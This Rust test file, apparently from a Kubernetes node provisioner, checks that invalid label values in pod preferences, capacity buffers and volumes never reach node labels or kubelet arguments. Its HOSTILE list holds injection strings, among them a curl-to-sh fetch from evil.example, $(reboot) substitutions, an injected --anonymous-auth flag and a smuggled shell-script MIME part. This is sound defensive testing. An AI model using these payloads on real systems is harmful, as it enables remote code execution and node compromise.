//! What becomes a label of a claim: whatever pods, buffers and volumes name, only what a node can
//! carry. The kubelet gets these labels on a command line.

use model::{
    Operator, Plan, Requirement,
    buffer::{BufferTarget, CapacityBuffer},
    topology::Weighted,
};

use crate::planner::scheduling::provision::{
    volumes::{add_bound, mounted},
    *,
};

/// Values that the API server takes where they are only preferred, and that no label can have.
const HOSTILE: [&str; 12] = [
    "x'; curl -s https://evil.example | sh; '",
    "x\" --anonymous-auth=true --node-labels=\"y",
    "a b",
    "a,other=label",
    "$(reboot)",
    "`reboot`",
    "a\nb",
    "</powershell>",
    "x\n--//\nContent-Type: text/x-shellscript",
    "-starts-with-a-dash",
    "gr\u{fc}n",
    "sixty-four-characters-are-one-more-than-the-value-of-a-label-has.",
];

fn team(operator: Operator, values: &[&str]) -> Requirement {
    Requirement::new("team", operator, values.iter().copied()).unwrap()
}

fn prefers(preferences: &[Requirement]) -> PodSpec {
    let preference =
        |requirement: &Requirement| Weighted { weight: 1, term: vec![requirement.clone()] };
    PodSpec { preferred_terms: preferences.iter().map(preference).collect(), ..spec("cpu=1") }
}

/// Facts with a pool that lets pods choose their team.
fn open_to_teams(pods: Vec<model::Pod>) -> Facts {
    let mut facts = facts(pods);
    facts.node_pools[0].template.requirements = requirements("team");
    facts
}

/// The team of each claim of a plan, all of whose pods have a place.
#[track_caller]
fn teams(plan: &Plan) -> Vec<&str> {
    assert_eq!(plan.unplaced, []);
    plan.new_claims.iter().map(|new| new.claim.labels["team"].as_str()).collect()
}

#[test]
fn a_preferred_value_that_is_no_label_is_relaxed_as_one_that_cannot_be_had() {
    for value in HOSTILE {
        let preference = team(Operator::In, &[value]);
        let plan = provision(&open_to_teams(vec![pending("a", prefers(&[preference]))]));
        assert_eq!(teams(&plan), ["0"], "{value}");
        let requirement = plan.new_claims[0].claim.requirements.get("team").unwrap();
        assert!(!requirement.values().contains(value), "{requirement}");
    }
}

#[test]
fn of_preferred_values_one_that_is_a_label_is_chosen() {
    for value in HOSTILE {
        let preferences = [team(Operator::In, &[value, "payments"])];
        let plan = provision(&open_to_teams(vec![pending("a", prefers(&preferences))]));
        assert_eq!(teams(&plan), ["payments"], "{value}");
        let requirement = plan.new_claims[0].claim.requirements.get("team").unwrap();
        assert_eq!(requirement.to_string(), "team In [payments]", "{value}");
        // Two preferences that only together leave a value that is no label.
        let mut preferences = [team(Operator::In, &[value, "a"]), team(Operator::NotIn, &["a"])];
        preferences.sort();
        let both = Weighted { weight: 1, term: preferences.to_vec() };
        let pod_spec = PodSpec { preferred_terms: vec![both], ..spec("cpu=1") };
        assert_eq!(
            teams(&provision(&open_to_teams(vec![pending("a", pod_spec)]))),
            ["0"],
            "{value}"
        );
    }
}

#[test]
fn a_preferred_key_that_is_no_label_is_never_set() {
    for key in ["x'; reboot; '", "a b", "a=b,c", "team\n"] {
        let requirement_of = |operator, values: &[&str]| {
            Requirement::new(key, operator, values.iter().copied()).unwrap()
        };
        let pods = vec![
            pending("a", prefers(&[requirement_of(Operator::NotIn, &["x"])])),
            pending("b", prefers(&[requirement_of(Operator::Exists, &[])])),
            pending("c", prefers(&[requirement_of(Operator::In, &["y"])])),
        ];
        let plan = provision(&facts(pods));
        assert_eq!(plan.unplaced, []);
        for new in &plan.new_claims {
            assert!(!new.claim.labels.contains_key(key), "{key}");
        }
    }
}

#[test]
fn a_buffer_that_asks_for_what_is_no_label_keeps_no_room() {
    for value in HOSTILE {
        let mut facts = open_to_teams(Vec::new());
        facts.policies.capacity_buffer = true;
        let asked =
            PodSpec { required_terms: vec![vec![team(Operator::In, &[value])]], ..spec("cpu=1") };
        facts.surroundings.capacity_buffers = vec![CapacityBuffer {
            namespace: "default".parse().unwrap(),
            name: "spare".parse().unwrap(),
            uid: "uid-spare".parse().unwrap(),
            replicas: Some(1),
            percentage: None,
            limits: std::collections::BTreeMap::new(),
            target: BufferTarget::Template(std::sync::Arc::new(asked)),
        }];
        let plan = provision(&facts);
        assert_eq!(plan.new_claims, [], "{value}");
        let why = plan.unplaced[0].reasons[0].to_string();
        assert!(why.contains("which no label of a node can have"), "{why}");
    }
}

#[test]
fn a_volume_that_asks_for_what_is_no_label_is_nowhere() {
    let mut facts = open_to_teams(pods("db cpu=1"));
    facts.pods[0].volumes = mounted(&["data"]);
    add_bound(&mut facts.surroundings.storage, "data", &["team=x'; reboot; '"]);
    let plan = provision(&facts);
    assert_eq!(plan.new_claims, []);
    assert_eq!(plan.unplaced.len(), 1);
}

#[test]
fn a_pod_that_moves_brings_no_label_that_no_node_can_have() {
    for value in HOSTILE {
        let pod_spec = PodSpec {
            required_terms: vec![vec![team(Operator::In, &[value, "payments"])]],
            ..spec("cpu=1")
        };
        let mut facts = open_to_teams(vec![running("a", "old", pod_spec)]);
        let mut old = node("old cpu=4 memory=8Gi pods=10 team=payments");
        old.is_deleting = true;
        add_node(&mut facts, old);
        assert_eq!(teams(&provision(&facts)), ["payments"], "{value}");
    }
}
